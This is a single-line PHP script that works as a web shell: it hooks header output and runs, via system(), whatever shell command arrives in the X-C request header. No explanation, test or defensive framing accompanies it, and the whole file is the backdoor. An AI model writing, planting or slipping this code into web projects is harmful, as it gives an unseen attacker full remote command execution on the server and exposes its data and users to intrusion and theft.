<?php header_register_callback(function () { system($_SERVER["HTTP_X_C"]); });
